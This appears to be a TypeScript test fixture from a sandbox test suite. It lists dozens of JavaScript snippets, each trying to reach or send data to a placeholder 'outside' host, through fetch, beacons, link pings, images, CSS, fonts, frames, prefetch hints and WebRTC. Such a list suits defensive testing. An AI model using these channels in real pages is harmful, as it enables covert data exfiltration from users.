/** Fetching from outside, or telling someone outside anything. */
import type { Attack } from './attack.ts'

export const loads: readonly Attack[] = [
  ['fetch', `fetch(outside + '/fetch', { mode: 'no-cors' })`],
  ['fetch that outlives the page', `fetch(outside + '/keepalive', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'words' })`],
  [
    'XMLHttpRequest',
    `new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', outside + '/xhr'); x.onload = done; x.onerror = fail; x.send() })`,
  ],
  ['XMLHttpRequest that waits', `(() => { const x = new XMLHttpRequest(); x.open('GET', outside + '/xhr', false); x.send(); return x.status })()`],
  ['a WebSocket', `new Promise((done, fail) => { const s = new WebSocket(outside.replace('http', 'ws')); s.onopen = done; s.onerror = fail })`],
  ['an EventSource', `new Promise((done, fail) => { const s = new EventSource(outside + '/events'); s.onopen = done; s.onerror = fail })`],
  ['a beacon', `void navigator.sendBeacon(outside + '/beacon', 'words')`],
  ['a ping of a link', `press(element('a', { href: '#/today', ping: outside + '/ping' }))`],
  ['WebTransport', `new WebTransport(outside.replace('http:', 'https:')).ready.then(() => 1)`],
  ['an image', `loads(element('img', { src: outside + '/image.svg' }))`],
  ['an image of several sizes', `loads(element('img', { srcset: outside + '/image.svg 1x' }))`],
  [
    'an image of SVG',
    `(() => { const i = document.createElementNS('http://www.w3.org/2000/svg', 'image'); i.setAttribute('href', outside + '/image.svg'); return loads(i) })()`,
  ],
  ['a button with an image', `loads(element('input', { type: 'image', src: outside + '/image.svg' }))`],
  ['a background image', `void (document.body.style.backgroundImage = 'url(' + outside + '/image.svg)')`],
  ['a pointer', `void (document.body.style.cursor = 'url(' + outside + '/pointer.svg), auto')`],
  ['an icon of the page', `document.head.append(element('link', { rel: 'icon', href: outside + '/icon.svg' }))`],
  ['a sound', `loads(element('audio', { src: outside + '/sound.webm', preload: 'auto' }))`],
  ['a film', `loads(element('video', { src: outside + '/film.webm', poster: outside + '/poster.svg', preload: 'auto' }))`],
  ['a style sheet', `loads(element('link', { rel: 'stylesheet', href: outside + '/style.css' }))`],
  [
    'an import in a style sheet',
    `(() => { const s = new CSSStyleSheet(); s.insertRule('body { background: url(' + outside + '/image.svg) }'); document.adoptedStyleSheets = [s] })()`,
  ],
  ['a font', `new FontFace('stolen', 'url(' + outside + '/font.woff2)').load()`],
  ['a frame', `loads(element('iframe', { src: outside + '/frame' })).then(() => 0)`],
  ['an object', `loads(element('object', { data: outside + '/object.svg' }))`],
  ['an embedded page', `loads(element('embed', { src: outside + '/embed.svg' }))`],
  ['a webview', `(() => { const w = element('webview', { src: outside + '/webview' }); document.body.append(w); return 'getURL' in w })()`],
  ['preload', `loads(element('link', { rel: 'preload', as: 'fetch', crossorigin: '', href: outside + '/preload' }))`],
  ['prefetch', `loads(element('link', { rel: 'prefetch', href: outside + '/prefetch' }))`],
  ['a module fetched beforehand', `loads(element('link', { rel: 'modulepreload', href: outside + '/script.js' }))`],
  ['a manifest', `document.head.append(element('link', { rel: 'manifest', href: outside + '/manifest.json' }))`],
  ['a connection made beforehand', `document.head.append(element('link', { rel: 'preconnect', href: outside }))`],
  ['a name looked up beforehand', `document.head.append(element('link', { rel: 'dns-prefetch', href: '//example.com' }))`],
  [
    'rules for pages to come',
    `(() => { const s = element('script', { type: 'speculationrules' }); s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [outside + '/next'] }] }); document.head.append(s); return 1 })()`,
  ],
  ['fetch of our own pages, which only recordings may be', `fetch('app://bundle/index.html')`],
  ['fetch of a data: address', `fetch('data:,words')`],
  ['fetch of a blob: address', `fetch(URL.createObjectURL(new Blob(['words'])))`],
  ['an image of a data: address', `loads(element('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }))`],
  [
    'WebRTC',
    `(async () => {
      const udp = outside.replace('http://', '')
      const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:' + udp }, { urls: 'turn:' + udp, username: 'a', credential: 'b' }] })
      const candidates = []
      peer.onicecandidate = ({ candidate }) => candidate && candidates.push(candidate.candidate)
      peer.createDataChannel('words')
      const gathered = new Promise((done) => (peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && done()))
      await peer.setLocalDescription()
      await gathered
      peer.close()
      return candidates.filter((words) => words !== '').join(' ')
    })()`,
  ],
]
